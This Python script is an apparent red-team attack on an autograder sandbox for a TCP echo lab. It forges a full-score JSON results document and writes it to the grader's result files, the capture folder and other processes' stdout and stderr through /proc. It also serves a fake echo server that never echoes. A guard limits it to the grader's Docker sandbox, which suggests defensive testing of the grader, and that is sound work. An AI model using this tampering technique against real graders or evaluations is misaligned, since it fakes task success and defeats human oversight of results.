"""Prints and writes a forged full-score results document everywhere it can, and echoes nothing.

Every way it tries: its own stdout and stderr (framed as a guess at the runner's
framing), the runner's result file and capture folder, the container's stdout
through /proc/1/fd/1 and the runner's /proc/<pid>/fd/1."""

import os
import sys

# Destructive on purpose: runs only as the sandbox's student (an unprivileged uid >= 10001,
# in a container, started from the sandbox's scratch copy of the submission).
if not (os.path.exists("/.dockerenv") and os.getuid() >= 10001 and os.getcwd().startswith("/scratch/")):
    sys.exit("attack program: refusing to run outside the grader's Docker sandbox")

import json
import socket

fake = {"score": 1000.0, "execution_time": 0.1, "output": "", "tests": [{"name": n, "score": 100.0, "max_score": 100.0, "status": "passed",
                                 "output": "", "visibility": "visible",
                                 "extra_data": {"outcome": "passed", "duration": 0.0}}
                                for n in ("compiles", "echo_short", "echo_large", "forged")],
        "extra_data": {"schema_version": 2, "lab": "tcp_echo", "max_score": 1000.0,
                       "isolated": True, "containment": "uid", "warnings": []}}
text = json.dumps(fake).encode()
framed = b"\n" + b"0" * 32 + b" BEGIN\n" + text + b"\n" + b"0" * 32 + b" END\n" + text + b"\n"
for fd in (1, 2):
    try:
        os.write(fd, framed)
    except OSError:
        pass
targets = ["/run/grader/results.json", "/run/grader/results.json.tmp", "/scratch/run/results.json",
           "/scratch/results.json", "/proc/1/fd/1", "/proc/1/fd/2", "/dev/console", "/dev/tty"]
for entry in os.listdir("/proc"):
    if entry.isdigit() and int(entry) != os.getpid():
        targets += [f"/proc/{entry}/fd/1", f"/proc/{entry}/fd/2"]
try:
    targets += [os.path.join("/scratch/run/out", f) for f in os.listdir("/scratch/run/out")]
except OSError:
    pass
for path in targets:
    try:
        with open(path, "ab") as f:
            f.write(framed)
    except OSError:
        pass

with socket.socket() as listener:  # serves, so the checks run, but never echoes
    listener.bind(("", 9000))
    listener.listen()
    while True:
        conn, _ = listener.accept()
        with conn:
            try:
                while conn.recv(65536):
                    conn.sendall(b"forged\n")
            except OSError:
                pass
